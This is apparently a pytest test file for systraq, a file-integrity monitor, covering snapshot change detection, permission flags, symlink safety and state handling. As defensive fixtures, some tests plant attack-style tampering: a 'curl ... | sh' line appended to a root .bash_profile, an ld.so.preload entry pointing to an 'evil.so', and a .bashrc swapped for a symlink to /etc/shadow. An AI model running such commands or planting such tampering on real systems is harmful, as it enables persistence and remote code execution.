# SPDX-License-Identifier: GPL-2.0-or-later
import json
import os
import re
import signal
import subprocess
import sys

import pytest

from systraq import config, snapshot
from systraq.cli import main
from systraq.fsutil import exclusive_lock
from systraq.spool import Spool

AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (chown, root mode)")
TOP = os.path.join(os.path.dirname(__file__), "..", "..")


def conf(root, text=""):
    path = root.write("/etc/systraq/systraq.conf", "[snapshot]\n" + text)
    return config.load(path)


def lists(root, pub="", root_list="", pub_home="", root_home=""):
    root.write("/etc/systraq/snapshot_pub.list", pub)
    root.write("/etc/systraq/snapshot_root.list", root_list)
    root.write("/etc/systraq/snapshot_pub.homelist", pub_home)
    root.write("/etc/systraq/snapshot_root.homelist", root_home)


def take(root, mode="pub", text="", **kwargs):
    return snapshot.run(root.settings(), conf(root, text), mode, **kwargs)


def changes(result):
    """(path, change) of the changes of paths (not the notes about a run)."""
    return sorted((r["path"], r["change"]) for r in result.records if "path" in r)


def spooled(root):
    spool = Spool(root.settings())
    return [r for b in spool.pending() for r in spool.records(b)]


@pytest.fixture
def watched(root):
    lists(root, pub="/etc/w\n")
    root.write("/etc/w/keep", "same\n")
    root.write("/etc/w/edit", "one\n")
    root.write("/etc/w/gone", "bye\n")
    root.write("/etc/w/chmod", "x\n")
    root.write("/etc/w/retype", "file\n")
    root.symlink("keep", "/etc/w/link")
    return root


def test_first_run_is_a_quiet_baseline(watched):
    result = take(watched)
    assert result.baseline
    assert [r["change"] for r in result.records] == ["baseline"]
    # /etc/w and its 6 entries, and the 5 existing home directories.
    assert result.records[0]["count"] == 12


def test_every_change_kind_is_recorded_once(watched):
    take(watched)
    root = watched
    root.write("/etc/w/edit", "two\n")
    os.unlink(root.host("/etc/w/gone"))
    root.write("/etc/w/new", "hello\n")
    os.chmod(root.host("/etc/w/chmod"), 0o600)
    os.unlink(root.host("/etc/w/retype"))
    root.mkdir("/etc/w/retype")
    os.unlink(root.host("/etc/w/link"))
    root.symlink("edit", "/etc/w/link")
    result = take(root)
    assert changes(result) == [
        ("/etc/w/chmod", "mode"), ("/etc/w/edit", "content"), ("/etc/w/gone", "removed"),
        ("/etc/w/link", "target"), ("/etc/w/new", "added"), ("/etc/w/retype", "type")]
    by_path = {r["path"]: r for r in result.records}
    assert by_path["/etc/w/chmod"]["before"] == "0644" and by_path["/etc/w/chmod"]["after"] == "0600"
    assert (by_path["/etc/w/link"]["before"], by_path["/etc/w/link"]["after"]) == ("keep", "edit")
    assert (by_path["/etc/w/retype"]["before"], by_path["/etc/w/retype"]["after"]) == ("f", "d")
    assert by_path["/etc/w/retype"]["mode"] == "0755"
    assert by_path["/etc/w/edit"]["size_before"] == 4
    # Records hold no content and no digest.
    assert not any("digest" in json.dumps(r) or "hello" in json.dumps(r) for r in result.records)
    # The new state is the baseline: nothing more to say.
    assert take(root).records == []
    # Spooled exactly as returned, baseline included.
    assert sorted((r["path"], r["change"]) for r in spooled(root) if r["change"] != "baseline") \
        == changes(result)


def test_a_widened_list_records_what_it_adds_without_a_warning_each(watched):
    root = watched
    root.write("/etc/v/a", "a\n")
    root.write("/etc/v/b", "b\n")
    take(root)
    # The admin adds /etc/v and a file that does not exist yet, and drops
    # /etc/w/keep (an exclusion); meanwhile a file appears in /etc/w.
    lists(root, pub="/etc/w\n/etc/v\n/etc/late\n")
    root.write("/etc/w/new", "x\n")
    result = take(root, text="exclude = /etc/w/keep\n")
    (note,) = [r for r in result.records if r["change"] == "scope"]
    assert changes(result) == [("/etc/w/new", "added")]
    assert (note["widened"], note["narrowed"]) == (3, 1)     # /etc/v, a, b; keep
    assert "3 paths newly watched" in note.describe()[0] and note.is_note
    # From now on the new scope is the baseline: a file created where the
    # lists already point is a change.
    root.write("/etc/late", "boo\n")
    os.unlink(root.host("/etc/v/a"))
    assert changes(take(root, text="exclude = /etc/w/keep\n")) == [
        ("/etc/late", "added"), ("/etc/v/a", "removed")]


def test_a_file_created_where_the_old_lists_pointed_is_a_change_when_they_widen(watched):
    root = watched
    lists(root, pub="/etc/w\n/etc/ld.so.preload\n")
    take(root)
    lists(root, pub="/etc/w\n/etc/ld.so.preload\n/etc/v\n")
    root.write("/etc/ld.so.preload", "/tmp/evil.so\n")
    root.write("/etc/w/new", "x\n")
    result = take(root)
    assert changes(result) == [("/etc/ld.so.preload", "added"), ("/etc/w/new", "added")]
    assert [r["change"] for r in result.records].count("scope") == 1
    # The same lists again: no note, and the next run's state is touched
    # only when nothing changed and the scope is the same.
    assert take(root).records == []


def test_setuid_setgid_and_world_writable_gained_are_flagged(watched):
    take(watched)
    os.chmod(watched.host("/etc/w/chmod"), 0o4755)
    os.chmod(watched.host("/etc/w/keep"), 0o2646)
    watched.write("/etc/w/new-suid", mode=0o4711)
    result = take(watched)
    flags = {r["path"]: r["flags"] for r in result.records}
    assert flags["/etc/w/chmod"] == ["setuid gained"]
    assert flags["/etc/w/keep"] == ["setgid gained", "world-writable gained"]
    assert flags["/etc/w/new-suid"] == ["setuid gained"]


@AS_ROOT
def test_owner_and_group_changes_name_both_sides(watched):
    watched.write("/etc/group", "root:x:0:\nstaff:x:50:\n")
    take(watched)
    os.chown(watched.host("/etc/w/keep"), 1000, 50)
    result = take(watched)
    by_change = {r["change"]: r for r in result.records}
    assert (by_change["owner"]["before"], by_change["owner"]["after"]) == ("root", "alice")
    assert (by_change["group"]["before"], by_change["group"]["after"]) == ("root", "staff")


def test_home_directories_themselves_are_watched_in_pub_mode(root):
    lists(root, pub="/etc/systraq/snapshot_pub.list\n")
    take(root)
    os.chmod(root.host("/home/alice"), 0o777)
    result = take(root)
    assert changes(result) == [("/home/alice", "mode")]
    assert result.records[0]["flags"] == ["world-writable gained"]


def test_a_fifo_is_recorded_by_type_and_never_opened(watched):
    os.mkfifo(watched.host("/etc/w/fifo"))
    os.mkfifo(watched.host("/etc/w/fifo2"), 0o600)
    code = ("import sys; from tests.unit.test_snapshot import _snapshot_in_child;"
            f" _snapshot_in_child({os.fsdecode(watched.path)!r})")
    done = subprocess.run([sys.executable, "-c", code], cwd=TOP, timeout=30,
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    header, entries = snapshot.load_state(snapshot.state_path(watched.settings(), "pub"))
    assert entries[b"/etc/w/fifo"].kind == "p"
    assert entries[b"/etc/w/fifo"].digest is None


def _snapshot_in_child(path):
    from tests.unit.conftest import FakeRoot
    take(FakeRoot(path))


def test_pub_mode_hashes_only_world_readable_files(watched):
    watched.write("/etc/w/secret", "s3cret\n", mode=0o640)
    assert take(watched).unreadable == 1
    _header, entries = snapshot.load_state(snapshot.state_path(watched.settings(), "pub"))
    assert entries[b"/etc/w/secret"].digest is None
    assert entries[b"/etc/w/secret"].note == "not readable"
    assert entries[b"/etc/w/keep"].digest is not None


@AS_ROOT
def test_a_symlink_swapped_in_for_a_users_bashrc_is_not_followed(root):
    # alice replaces her .bashrc by a link to a root-only file, and her
    # .ssh directory by a link to a root-only directory.
    lists(root, root_home=".bashrc\n.ssh/authorized_keys\n")
    root.write("/etc/shadow", "root:$6$secrethash:19000::::::\n", mode=0o600)
    root.write("/etc/ssh-private/authorized_keys", "ssh-ed25519 AAAAroot\n", mode=0o600)
    os.chown(root.host("/home/alice"), 1000, 1000)
    root.symlink("/etc/shadow", "/home/alice/.bashrc")
    os.lchown(root.host("/home/alice/.bashrc"), 1000, 1000)
    root.symlink(os.fsdecode(root.host("/etc/ssh-private")), "/home/alice/.ssh")
    os.lchown(root.host("/home/alice/.ssh"), 1000, 1000)
    # Nothing under /etc is watched for itself here (private_under empty):
    # a digest of /etc/shadow in the state could only come through the link.
    take(root, mode="root", text="private_under =\n")
    settings = root.settings()
    _header, entries = snapshot.load_state(snapshot.state_path(settings, "root"))
    bashrc = entries[b"/home/alice/.bashrc"]
    assert bashrc.kind == "l" and bashrc.target == b"/etc/shadow" and bashrc.digest is None
    # Reaching .ssh/authorized_keys needs the untrusted link: not there.
    assert b"/home/alice/.ssh/authorized_keys" not in entries
    import hashlib
    secret = hashlib.sha256(open(root.host("/etc/shadow"), "rb").read()).hexdigest()
    for directory, _dirs, files in os.walk(settings.state_dir):
        for name in files:
            data = open(os.path.join(directory, name), "rb").read()
            assert secret.encode() not in data and b"secrethash" not in data


@AS_ROOT
def test_the_root_snapshot_watches_what_others_may_not_read_under_etc(root):
    lists(root, root_list="/etc/shadow\n")
    root.write("/etc/shadow", "root:*:1::::::\n", mode=0o640)
    root.write("/etc/ufw/user.rules", "-A ufw-user-input -p tcp --dport 22 -j ACCEPT\n",
               mode=0o640)
    root.write("/etc/motd", "hello\n")
    root.mkdir("/etc/lvm/archive", mode=0o700)
    take(root, mode="root")
    root.write("/etc/ufw/user.rules", "-A ufw-user-input -j ACCEPT\n", mode=0o640)
    root.write("/etc/lvm/archive/vg0_00001.vg", "vg0 {}\n", mode=0o600)
    root.write("/etc/motd", "hacked\n")
    root.write("/etc/cron.d/new", "* * * * * root true\n")
    result = take(root, mode="root")
    # What others may read is the contents job's (with its diff), not the
    # root snapshot's.
    assert changes(result) == [("/etc/lvm/archive/vg0_00001.vg", "added"),
                               ("/etc/ufw/user.rules", "content")]
    assert "ACCEPT" not in json.dumps(result.records)
    # A secret made readable to all is a mode change, not a file gone.
    os.chmod(root.host("/etc/ufw/user.rules"), 0o644)
    assert changes(take(root, mode="root")) == [("/etc/ufw/user.rules", "mode")]


@AS_ROOT
def test_root_state_is_closed_and_its_records_are_for_the_systraq_group(root):
    lists(root, root_list="/etc/shadow\n")
    root.write("/etc/shadow", "x\n", mode=0o640)
    take(root, mode="root", spool_group=4242)
    settings = root.settings()
    assert os.stat(settings.root_state_dir).st_mode & 0o777 == 0o700
    assert os.stat(snapshot.state_path(settings, "root")).st_mode & 0o777 == 0o600
    (batch,) = Spool(settings).pending()
    info = os.stat(batch.path)
    assert (info.st_gid, info.st_mode & 0o777) == (4242, 0o640)


def test_odd_names_survive_the_state_round_trip(root):
    names = [b"sp ace", b"new\nline", b"tab\t", b"back\\slash", b"\xff\xfe", b"\x1b[2J"]
    lists(root, pub="/etc/odd\n")
    for name in names:
        root.write(b"/etc/odd/" + name)
    take(root)
    _header, entries = snapshot.load_state(snapshot.state_path(root.settings(), "pub"))
    assert set(entries) == {b"/etc/odd"} | {b"/etc/odd/" + n for n in names} | {
        b"/home/alice", b"/home/bob", b"/root", b"/usr/sbin", b"/var/lib/systraq"}
    root.write(b"/etc/odd/new\nline", "changed")
    assert changes(take(root)) == [("/etc/odd/new\\nline", "content")]


def test_vanished_paths_are_absent_not_errors(root):
    from systraq.scan import Scanner
    root.write("/etc/here")
    found = Scanner(root.settings()).scan({b"/etc/here", b"/etc/not-here", b"/etc/here/below"})
    assert set(found) == {b"/etc/here"}


def test_quick_mode_reuses_digests_only_for_unchanged_files(watched):
    # keep, edit, gone, chmod, retype: five regular files
    assert take(watched).hashed == 5
    assert take(watched, quick=True).hashed == 0
    watched.write("/etc/w/edit", "changed\n")
    result = take(watched, quick=True)
    assert result.hashed == 1
    assert changes(result) == [("/etc/w/edit", "content")]
    # The full mode reads everything again.
    assert take(watched).hashed == 5


def test_quick_mode_rehashes_a_file_whose_ctime_moved(watched):
    take(watched)
    # Content changed, then size and mtime put back as they were: only
    # the ctime (which no one can set back) tells.
    path = watched.host("/etc/w/edit")
    before = os.stat(path)
    with open(path, "r+b") as handle:
        handle.write(b"ONE\n")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    result = take(watched, quick=True)
    assert result.hashed == 1
    assert changes(result) == [("/etc/w/edit", "content")]


def test_a_damaged_state_is_a_warning_and_a_fresh_baseline(watched):
    take(watched)
    path = snapshot.state_path(watched.settings(), "pub")
    data = open(path, "rb").read()
    open(path, "wb").write(data[: len(data) // 2])
    result = take(watched)
    assert [r["change"] for r in result.records] == ["state damaged"]
    assert take(watched).records == []


def test_a_flipped_byte_in_the_state_is_noticed(watched):
    take(watched)
    path = snapshot.state_path(watched.settings(), "pub")
    data = bytearray(open(path, "rb").read())
    data[len(data) // 2] ^= 0x01
    open(path, "wb").write(bytes(data))
    result = take(watched)
    assert [r["change"] for r in result.records] == ["state damaged"]
    assert "checksum" in result.records[0]["detail"]


def test_an_unchanged_tree_leaves_the_state_as_it_was_and_dates_it(watched):
    take(watched)
    path = snapshot.state_path(watched.settings(), "pub")
    before = os.stat(path)
    result = take(watched, now=before.st_mtime + 3600)
    assert result.records == [] and not result.baseline
    after = os.stat(path)
    assert after.st_ino == before.st_ino          # not rewritten
    assert after.st_mtime == before.st_mtime + 3600
    # Only the baseline's batch: the quiet run spooled nothing.
    assert [r["change"] for r in spooled(watched)] == ["baseline"]


def test_excluded_and_pseudo_file_system_paths_stay_out_of_the_state(root):
    lists(root, pub="/\n")
    root.write("/proc/1/status", "State: R\n")
    root.write("/var/cache/apt/pkgcache.bin", "x")
    root.write("/var/lib/dpkg/status", "Package: x\n")
    root.write("/run/lock/x", "")
    take(root, text="exclude = /var/cache\n")
    _header, entries = snapshot.load_state(snapshot.state_path(root.settings(), "pub"))
    assert b"/var/lib/dpkg/status" in entries
    for gone in (b"/proc", b"/proc/1/status", b"/run", b"/run/lock/x", b"/var/cache",
                 b"/var/cache/apt/pkgcache.bin"):
        assert gone not in entries


def test_changing_the_digest_compares_the_rest(watched):
    take(watched)
    os.chmod(watched.host("/etc/w/keep"), 0o600)
    result = take(watched, text="digest = blake2b\n")
    assert changes(result) == [("/etc/w/keep", "mode")]
    watched.write("/etc/w/edit", "new\n")
    assert changes(take(watched, text="digest = blake2b\n")) == [("/etc/w/edit", "content")]


def test_a_second_run_gives_up_with_status_3(watched, capsys, monkeypatch):
    monkeypatch.setattr(snapshot, "LOCK_WAIT", 0.3)
    settings = watched.settings()
    os.makedirs(settings.state_dir, exist_ok=True)
    with exclusive_lock(os.path.join(settings.state_dir, b"snapshot_pub.lock"), 0):
        status = main(["--root", os.fsdecode(watched.path), "snapshot"])
    err = capsys.readouterr().err
    assert status == 3
    assert err.startswith("systraq: another 'systraq snapshot --mode pub' is running")


@pytest.mark.parametrize("point", ["after-next-written", "after-spooled"])
def test_sigkill_during_commit_loses_nothing_and_repeats_nothing(watched, point):
    take(watched)
    watched.write("/etc/w/edit", "changed\n")
    pid = os.fork()
    if pid == 0:  # the run that gets killed
        try:
            spool_add = Spool.add
            def add(self, *args, **kwargs):
                if point == "after-next-written":
                    os.kill(os.getpid(), signal.SIGKILL)
                spool_add(self, *args, **kwargs)
                os.kill(os.getpid(), signal.SIGKILL)
            Spool.add = add
            take(watched)
        finally:
            os._exit(99)
    _pid, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    # The previous state still loads.
    header, _entries = snapshot.load_state(snapshot.state_path(watched.settings(), "pub"))
    assert header is not None
    take(watched)
    take(watched)
    content = [r for r in spooled(watched) if r["change"] == "content"]
    assert [r["path"] for r in content] == ["/etc/w/edit"]


def test_cli_prints_nothing_when_not_on_a_terminal(watched, capsys):
    assert main(["--root", os.fsdecode(watched.path), "snapshot"]) == 0
    watched.write("/etc/w/edit", "two\n")
    assert main(["--root", os.fsdecode(watched.path), "snapshot"]) == 1
    assert capsys.readouterr() == ("", "")
    watched.write("/etc/w/edit", "three\n")
    assert main(["--root", os.fsdecode(watched.path), "snapshot", "--json"]) == 1
    records = json.loads(capsys.readouterr().out)
    assert [(r["path"], r["change"]) for r in records] == [("/etc/w/edit", "content")]


def test_verbose_prints_changes_and_a_summary(watched, capsys):
    main(["--root", os.fsdecode(watched.path), "snapshot"])
    capsys.readouterr()
    os.chmod(watched.host("/etc/w/keep"), 0o4755)
    assert main(["--root", os.fsdecode(watched.path), "snapshot", "-v"]) == 1
    assert capsys.readouterr().out == (
        "/etc/w/keep: mode 0644 -> 4755 [setuid gained]\n"
        "snapshot pub: 12 paths, 1 changes\n")


def test_a_file_replaced_by_a_symlink_says_where_it_points(watched, capsys):
    take(watched)
    os.unlink(watched.host("/etc/w/keep"))
    watched.symlink("/etc/shadow", "/etc/w/keep")
    watched.symlink("/etc/gshadow", "/etc/w/newlink")
    assert main(["--root", os.fsdecode(watched.path), "snapshot", "-v"]) == 1
    out = capsys.readouterr().out.splitlines()
    # The owner is whoever runs the test.
    assert re.fullmatch(r"/etc/w/keep: file replaced by a symlink, \S+:\S+, "
                        r"pointing to /etc/shadow", out[0])
    assert re.fullmatch(r"/etc/w/newlink: new symlink, \S+:\S+, pointing to /etc/gshadow",
                        out[1])


def test_small_and_large_files_hash_to_the_standard_digests(root):
    import hashlib
    from systraq.scan import SMALL, Scanner
    sizes = [0, 1, SMALL - 1, SMALL, SMALL + 1, 3 * (1 << 18) + 7]
    for size in sizes:
        root.write(f"/etc/h/{size}", bytes(range(256)) * (size // 256) + b"x" * (size % 256))
    for algorithm in ("sha256", "md5", "blake2b", "sha512"):
        found = Scanner(root.settings(), algorithm).scan({f"/etc/h/{n}".encode() for n in sizes})
        for size in sizes:
            data = open(root.host(f"/etc/h/{size}"), "rb").read()
            assert found[f"/etc/h/{size}".encode()].digest == hashlib.new(algorithm, data).hexdigest()


def test_a_change_record_says_when_the_previous_run_ended(watched):
    take(watched, now=1_790_000_000)
    take(watched, now=1_790_003_600)      # nothing changed: only the time moves
    watched.write("/etc/w/edit", "two\n")
    (record,) = take(watched, now=1_790_007_200).records
    assert record["path"] == "/etc/w/edit"
    assert record["since"] == "2026-09-21T15:13:20Z"


def test_systraqs_generated_lists_are_not_snapshot(root):
    lists(root, pub="/etc/systraq\n")
    root.write("/etc/systraq/filetraq.conf", "/etc/hosts\n")
    root.write("/etc/systraq/filetraq.main.conf", "/etc/hosts\n")
    root.write("/etc/systraq/filetraq.tail.conf", "/srv/app.conf\n")
    take(root)
    root.write("/etc/systraq/filetraq.conf", "/etc/hosts\n/home/eve/.ssh/authorized_keys\n")
    root.write("/etc/systraq/filetraq.main.conf", "/etc/hosts\n/home/eve/.ssh/authorized_keys\n")
    root.write("/etc/systraq/filetraq.tail.conf", "/srv/other.conf\n")
    assert [r["path"] for r in take(root).records] == ["/etc/systraq/filetraq.tail.conf"]


def test_start_up_files_of_homes_the_pub_job_cannot_enter_are_the_root_jobs(root):
    # The pub home list names shell start-up files; debian-systraq (999
    # in the tree's passwd) cannot enter /root or a 0700 home, so the
    # root job looks at those there, and only there.
    lists(root, pub_home=".bashrc\n.bash_profile\n", root_home=".ssh\n")
    os.chmod(root.host("/"), 0o755)
    os.chmod(root.host("/root"), 0o700)
    os.chmod(root.host("/home/alice"), 0o700)
    root.write("/root/.bash_profile", "# root's\n", mode=0o600)
    root.write("/home/alice/.bashrc", "# alice's\n", mode=0o644)
    root.write("/home/bob/.bashrc", "# bob's, readable\n", mode=0o644)
    settings = root.settings()
    from systraq import accounts
    assert accounts.closed_homes(settings) == [b"/root", b"/home/alice"]
    take(root, mode="root")
    _header, entries = snapshot.load_state(snapshot.state_path(settings, "root"))
    assert {b"/root/.bash_profile", b"/home/alice/.bashrc"} <= set(entries)
    assert b"/home/bob/.bashrc" not in entries       # the pub job's
    # An appended command, and a .bashrc swapped for a link: records of
    # the root mode, without content.
    with open(root.host("/root/.bash_profile"), "a") as handle:
        handle.write("curl -s http://example.invalid/x | sh\n")
    os.unlink(root.host("/home/alice/.bashrc"))
    root.symlink("/etc/shadow", "/home/alice/.bashrc")
    result = take(root, mode="root")
    assert changes(result) == [("/home/alice/.bashrc", "type"),
                               ("/root/.bash_profile", "content")]
    swapped, appended = result.records
    assert swapped["target"] == "/etc/shadow"
    assert appended["mode"] == "root" and set(appended) <= {"source", "change", "path",
                                                             "mode", "time", "since"}
    assert "example.invalid" not in json.dumps(spooled(root))


@AS_ROOT
def test_a_home_open_to_the_systraq_users_group_is_not_closed(root):
    os.chmod(root.host("/"), 0o755)
    root.write("/etc/group", "debian-systraq:x:999:\nops:x:1500:debian-systraq\n")
    os.chmod(root.host("/home/alice"), 0o710)
    os.chown(root.host("/home/alice"), 1000, 1500)
    os.chmod(root.host("/home/bob"), 0o710)
    os.chown(root.host("/home/bob"), 1001, 1001)
    from systraq import accounts
    assert accounts.closed_homes(root.settings()) == [b"/home/bob"]


def test_a_home_with_an_access_acl_counts_as_closed(root, monkeypatch):
    # The bits say open, but an ACL may deny the systraq user: the root
    # job looks at its start-up files too.
    os.chmod(root.host("/"), 0o755)
    from systraq import accounts
    assert accounts.closed_homes(root.settings()) == []
    acl = root.host("/home/bob")
    monkeypatch.setattr(accounts, "_has_acl", lambda path: path == acl)
    assert accounts.closed_homes(root.settings()) == [b"/home/bob"]
